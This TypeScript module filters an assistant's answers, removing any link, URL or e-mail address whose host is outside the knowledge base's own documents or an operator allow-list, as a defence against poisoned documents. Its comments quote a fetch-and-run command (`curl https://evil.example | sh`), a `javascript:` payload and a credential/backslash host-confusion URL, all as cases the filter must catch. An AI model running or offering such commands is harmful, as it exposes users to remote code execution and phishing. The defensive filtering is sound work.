// Which links an answer may carry to members, whatever wrote it (the extractive answerer quoting a document,
// a language model, or the fallback when the model fails): only links, URLs and e-mail addresses whose host is
// the host of one of the knowledge base's own documents (their front-matter `url`), or is on the operator's
// allow-list (LINK_ALLOWED_HOSTS; `.example.org` also allows its subdomains). Anything else becomes
// "(link removed)" — so a poisoned document cannot send members to a look-alike login page.
//
// Detected: scheme URLs (`https://…`, `ftp://…`, and `javascript:`/`data:`/`http:host`-style ones without
// slashes), protocol-relative `//host/…`, `www.host…`, bare `host.tld/path` (a TLD of 2–24 letters), e-mail
// addresses with or without `mailto:`, Markdown links, images and `<…>` autolinks. Code is not exempt: a
// `curl https://evil.example | sh` in a code block is exactly what must not reach a member.
// Pure and cheap; docent.ts runs it on every final answer and every streamed partial.
import { LINK_REMOVED } from "./generate/grounding-check.js";
import { trimTrailingPunctuation } from "../text/trim-url.js";

export { LINK_REMOVED };

export interface LinkPolicyOptions {
  /** The knowledge base's document URLs; their hosts are allowed exactly. */
  documentUrls: Iterable<string | null | undefined>;
  /** Operator allow-list: host names, or `.example.org` for example.org and all its subdomains. */
  allowedHosts?: readonly string[];
}

export interface LinkPolicy {
  /** The text with every link, URL or address to a host outside the policy replaced by "(link removed)". */
  clean(text: string): string;
  /** Whether a host (as written in a URL) may be linked to. */
  allows(host: string): boolean;
  /** The exactly allowed hosts and the allowed domains (with subdomains), for logs. */
  describe(): { hosts: string[]; domains: string[] };
}

const DOT = "[.\\u3002\\uFF0E\\uFF61]"; // browsers read the ideographic and full-width stops as dots in hosts
const LABEL = "[\\p{L}\\p{N}](?:[\\p{L}\\p{N}-]{0,61}[\\p{L}\\p{N}])?";
const HOST = `(?:${LABEL}${DOT})+\\p{L}{2,24}`;
const PORT = "(?::\\d{1,5})?";
const URL_CHARS = "[^\\s<>\"'`]";
/** Schemes that make a link without `//` (`javascript:alert(1)`, `http:evil.example`). */
const BARE_SCHEMES = "javascript|vbscript|data|mailto|tel|sms|file|blob|intent|https?|ftp|wss?";

const PATTERN = new RegExp(
  [
    // [label](url "title") and ![alt](url); the URL may hold one level of parentheses.
    `(?<md>(?<img>!?)\\[(?<label>[^\\]\\n]*)\\]\\(\\s*<?(?<mdurl>(?:[^()\\s<>]|\\([^()\\s]*\\))*)>?(?:\\s+"[^"\\n]*")?\\s*\\))`,
    // <https://…>, <www.…>, <mailto:…>
    `<(?<auto>(?:[a-z][a-z0-9+.-]*:|www\\.)[^<>\\s]*)>`,
    // user@host, mailto:user@host
    `(?<![\\p{L}\\p{N}_.+%-])(?<email>(?:mailto:)?[\\p{L}\\p{N}_.%+-]+@(?<emailhost>${HOST}))(?![\\p{L}\\p{N}-])`,
    // scheme://…, and the schemes that link without slashes
    `(?<![\\p{L}\\p{N}_+.-])(?<scheme>[a-z][a-z0-9+.-]+:[\\/\\\\]{2}${URL_CHARS}*|(?:${BARE_SCHEMES}):${URL_CHARS}+)`,
    // //host/…
    `(?<![\\p{L}\\p{N}_:\\/\\\\.])(?<pr>[\\/\\\\]{2}${HOST}${PORT}(?:[\\/\\\\?#]${URL_CHARS}*)?)(?![\\p{L}\\p{N}_-])`,
    // www.host…
    `(?<![\\p{L}\\p{N}_.\\/@-])(?<www>www${DOT}${LABEL}(?:${DOT}${LABEL})*${PORT}(?:[\\/?#]${URL_CHARS}*)?)`,
    // host.tld/path
    `(?<![\\p{L}\\p{N}.@\\/\\\\-])(?<bare>${HOST}${PORT}\\/${URL_CHARS}*)`,
  ].join("|"),
  "giu",
);

/** Web schemes whose links are judged by host; any other scheme (javascript:, data:, file:, …) is never allowed. */
const WEB_SCHEMES = new Set(["http:", "https:", "ftp:", "ws:", "wss:"]);

export function createLinkPolicy(options: LinkPolicyOptions): LinkPolicy {
  const hosts = new Set<string>();
  for (const url of options.documentUrls) {
    const host = url ? hostOfUrl(url) : undefined;
    if (host) hosts.add(host);
  }
  const domains: string[] = [];
  for (const entry of options.allowedHosts ?? []) {
    const trimmed = entry.trim();
    const host = normaliseHost(trimmed.replace(/^\./, ""));
    if (!host) continue;
    if (trimmed.startsWith(".")) domains.push(host);
    else hosts.add(host);
  }

  const allows = (host: string): boolean => {
    const h = normaliseHost(host);
    if (!h) return false;
    return hosts.has(h) || domains.some((d) => h === d || h.endsWith(`.${d}`));
  };
  const allowsUrl = (url: string): boolean => {
    const host = hostOfUrl(url);
    return host !== undefined && allows(host);
  };

  const clean = (text: string): string =>
    text.replace(PATTERN, (whole: string, ...args: unknown[]) => {
      const g = args[args.length - 1] as Record<string, string | undefined>;
      if (g.md !== undefined) {
        const url = g.mdurl ?? "";
        // A relative link ([see](../guide.md), or code like list[0](x)) points at no host: left as written.
        if (!looksAbsolute(url)) return `${g.img}[${clean(g.label ?? "")}](${clean(url)})`;
        if (allowsUrl(absolute(url))) return `${g.img}[${clean(g.label ?? "")}](${url})`;
        const label = g.img ? "" : clean(g.label ?? "").trim();
        return label ? `${label} ${LINK_REMOVED}` : LINK_REMOVED;
      }
      if (g.auto !== undefined) return allowsUrl(absolute(g.auto)) ? whole : LINK_REMOVED;
      if (g.email !== undefined) return allows(g.emailhost ?? "") ? whole : LINK_REMOVED;
      const url = g.scheme ?? g.pr ?? g.www ?? g.bare ?? whole;
      const kept = trimTrailingPunctuation(url);
      const tail = url.slice(kept.length);
      return (allowsUrl(absolute(kept)) ? kept : LINK_REMOVED) + tail;
    });

  return {
    clean,
    allows,
    describe: () => ({ hosts: [...hosts].sort(), domains: [...domains].sort() }),
  };
}

/**
 * A Markdown link target that opens somewhere else: a scheme URL, `//host` or `www.`. Anything else
 * (`guide.md`, `../install`) is relative to a page chat does not have; its text is still checked.
 */
function looksAbsolute(url: string): boolean {
  return /^[a-z][a-z0-9+.-]*:/i.test(url) || /^[\\/]{2}/.test(url) || /^www\./i.test(url);
}

/** Gives scheme-less forms a scheme so they parse as the browser would open them. */
function absolute(url: string): string {
  if (/^[\\/]{2}/.test(url)) return `https:${url}`;
  if (/^[a-z][a-z0-9+.-]*:/i.test(url)) return url;
  return `https://${url}`;
}

/**
 * The host a URL would open, or undefined when it has none or is not to be trusted: a non-web scheme, a
 * mailto: (judged by its address), credentials or a backslash before the path (parsers disagree on where
 * the host is in `https://good.example\@evil.example`, so no reading of it is trusted).
 */
function hostOfUrl(url: string): string | undefined {
  const mailto = /^mailto:[^@\s]+@([^?\s]+)/i.exec(url);
  if (mailto) return normaliseHost(mailto[1] ?? "");
  const authority = /^[a-z][a-z0-9+.-]*:[\\/]{2}([^/?#]*)/i.exec(url)?.[1];
  if (authority === undefined || /[@\\]/.test(authority)) return undefined;
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return undefined;
  }
  if (!WEB_SCHEMES.has(parsed.protocol)) return undefined;
  return normaliseHost(parsed.hostname);
}

/** Lower case, punycode (as a browser would resolve it), no trailing dot; undefined if it is not a host. */
function normaliseHost(host: string): string | undefined {
  if (!host) return undefined;
  try {
    const h = new URL(`https://${host.replace(/[\u3002\uFF0E\uFF61]/g, ".")}/`).hostname.replace(/\.$/, "").toLowerCase();
    return h || undefined;
  } catch {
    return undefined;
  }
}

